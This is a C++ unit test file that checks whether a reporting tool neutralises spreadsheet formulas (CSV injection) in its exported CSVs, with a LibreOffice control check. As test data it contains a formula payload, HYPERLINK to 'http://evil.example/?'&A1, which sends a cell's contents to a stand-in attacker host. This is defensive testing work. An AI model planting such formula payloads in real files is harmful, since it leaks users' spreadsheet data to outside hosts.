// Issue 17: a source value that is a spreadsheet formula is written to
// every CSV of the pack as text (an apostrophe first: OWASP's CSV injection
// advice), and LibreOffice, which does evaluate a raw formula in a CSV
// (the control below proves it), shows it as text, not its result.
#include <catch2/catch.hpp>

#include <cstdlib>
#include <filesystem>
#include <sstream>

#include "cli/app.h"
#include "test_support.h"

using namespace annexa;
namespace fs = std::filesystem;

namespace {

const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";

// The fields of RFC 4180 CSV text (CRLF or LF records), written here
// independently of annexa's reader.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false, was_quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') field += '"', ++i;
      else if (c == '"') quoted = false;
      else field += c;
    } else if (c == '"') {
      quoted = was_quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field), field.clear(), was_quoted = false;
    } else if (c == '\n' || (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n')) {
      if (c == '\r') ++i;
      rows.back().push_back(field), field.clear(), was_quoted = false;
      rows.emplace_back();
    } else {
      field += c;
    }
  }
  if (!field.empty() || was_quoted) rows.back().push_back(field);
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

// A field a spreadsheet would read as a formula: a leading = + - @ tab or
// CR, unless the whole field is a plain decimal number ("-1").
bool Dangerous(const std::string& f) {
  if (f.empty() || std::string("=+-@\t\r").find(f[0]) == std::string::npos) return false;
  size_t i = f[0] == '-' ? 1 : 0, digits = 0, point = 0;
  for (; i < f.size(); ++i) {
    if (f[i] >= '0' && f[i] <= '9') ++digits;
    else if (f[i] == '.' && !point && digits) point = i;
    else return true;
  }
  return digits == 0 || point == f.size() - 1;
}

// The tiny golden council with formulas as a contact source code, a team
// and an audit grade; generated into `dir`/out. Returns the pack folder.
std::string GenerateHostile(const std::string& dir) {
  const std::string tiny = testing::SourceDir() + "/tests/golden/tiny";
  fs::copy(tiny + "/config.yaml", dir + "/config.yaml");
  fs::create_directories(dir + "/data");
  fs::copy(tiny + "/data/people.csv", dir + "/data/people.csv");
  testing::WriteTextFile(dir + "/data", "contacts.csv",
                         "CID,ID,WHEN,SRC\n1,C1,2026-06-01,\"" + std::string("=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")") +
                             "\"\n2,C2,2026-11-20,POL\n3,C3,2026-10-01,ZZZ\n4,C1,2026-01-01,SCH\n");
  testing::WriteTextFile(dir + "/data", "plans.csv",
                         "ID,START,END,CAT,PREV,TEAM,WORKER\nC1,2026-01-10,,Neglect,0,=1+1,Zoë O’Neill\n"
                         "C3,2025-06-01,2026-07-01,Emotional,1,Team B,Sam Smith\n");
  testing::WriteTextFile(dir + "/data", "audits.csv",
                         "REF,ID,DONE,THEME,GRADE,BY,MOD\nA1,C1,2026-10-05,Neglect,@SUM(1;2),Pat Lee,Y\n"
                         "A2,C4,2026-09-01,Case file,Requires improvement,Pat Lee,N\n"
                         "A3,C3,2026-03-01,Case file,Good,Pat Lee,Y\n");
  std::ostringstream o, e;
  cli::AppContext ctx{o, e, annexa::Resources::BesideSpecs(testing::SourceDir() + "/annex_a_specs")};
  const int rc = cli::RunApp({"generate", "--config", dir + "/config.yaml", "--out", dir + "/out", "--generated-at",
                              "2026-11-23T09:30:00", "--quiet"},
                             ctx);
  INFO(e.str());
  REQUIRE((rc == 0 || rc == 1));
  return dir + "/out";
}

}  // namespace

TEST_CASE("csv injection: formulas from the sources are text in every CSV of the pack", "[csv]") {
  const std::string out = GenerateHostile(testing::MakeTempDir());
  const std::string findings = testing::ReadBytes(out + "/annex_a_001_2026-11-23_findings.csv");
  const std::string coverage = testing::ReadBytes(out + "/annex_a_001_2026-11-23_audit_coverage.csv");
  REQUIRE(!findings.empty());
  REQUIRE(!coverage.empty());
  // The unmapped contact source, as the value field (quotes doubled, an
  // apostrophe first).
  CHECK(findings.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\",") != std::string::npos);
  // The team of C1's open plan, and C1's audit grade.
  CHECK(coverage.find("\r\nteam,\"'=1+1\",") != std::string::npos);
  CHECK(coverage.find("\r\ngrade,\"'@SUM(1;2)\",") != std::string::npos);
  // Every field of every CSV in the pack: none a spreadsheet would run.
  int csvs = 0;
  for (const auto& entry : fs::directory_iterator(out)) {
    if (entry.path().extension() != ".csv") continue;
    ++csvs;
    for (const auto& row : ParseCsv(testing::ReadBytes(entry.path().string())))
      for (const std::string& field : row) {
        INFO(entry.path().filename().string() + ": " + field);
        CHECK_FALSE(Dangerous(field));
      }
  }
  CHECK(csvs == 4);  // findings, completeness, audit coverage, indicators (issue 20)
}

TEST_CASE("csv injection: LibreOffice shows the neutralised formulas as text", "[csv][libreoffice]") {
  if (std::system("command -v soffice >/dev/null 2>&1") != 0) {
    WARN("soffice not found: LibreOffice is not installed, so the CSV injection check in LibreOffice is skipped "
         "(scripts/bootstrap installs libreoffice-calc)");
    return;
  }
  const std::string dir = testing::MakeTempDir();
  const std::string out = GenerateHostile(dir);
  // The control: the same values raw, as a writer without neutralising
  // would write them; LibreOffice must evaluate these, or this test could
  // not tell a formula from text.
  testing::WriteTextFile(dir, "control.csv",
                         "a,b\r\n=1+1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\"\r\n");
  fs::copy(out + "/annex_a_001_2026-11-23_findings.csv", dir + "/findings.csv");
  fs::copy(out + "/annex_a_001_2026-11-23_audit_coverage.csv", dir + "/coverage.csv");
  // Import: comma, double quote, UTF-8, from line 1, quoted fields NOT forced
  // to text (token 7 false) and formulas evaluated (token 13 true): the way
  // a spreadsheet most willing to run a formula opens it. Export as shown.
  const std::string command =
      "cd '" + dir + "' && timeout 120 soffice -env:UserInstallation=file://" + dir +
      "/profile --headless --infilter='CSV:44,34,76,1,,0,false,true,false,false,false,-1,true' --convert-to "
      "'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false' --outdir '" + dir +
      "/lo' control.csv findings.csv coverage.csv >/dev/null 2>&1";
  REQUIRE(std::system(command.c_str()) == 0);
  CHECK(testing::ReadBytes(dir + "/lo/control.csv") == "a,b\n2,click\n");
  const std::string findings = testing::ReadBytes(dir + "/lo/findings.csv");
  const std::string coverage = testing::ReadBytes(dir + "/lo/coverage.csv");
  REQUIRE(!findings.empty());
  REQUIRE(!coverage.empty());
  CHECK(findings.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\",") != std::string::npos);
  CHECK(findings.find(",click,") == std::string::npos);
  CHECK(coverage.find("\nteam,'=1+1,") != std::string::npos);
  CHECK(coverage.find("\ngrade,'@SUM(1;2),") != std::string::npos);
  CHECK(coverage.find("\nteam,2,") == std::string::npos);
}
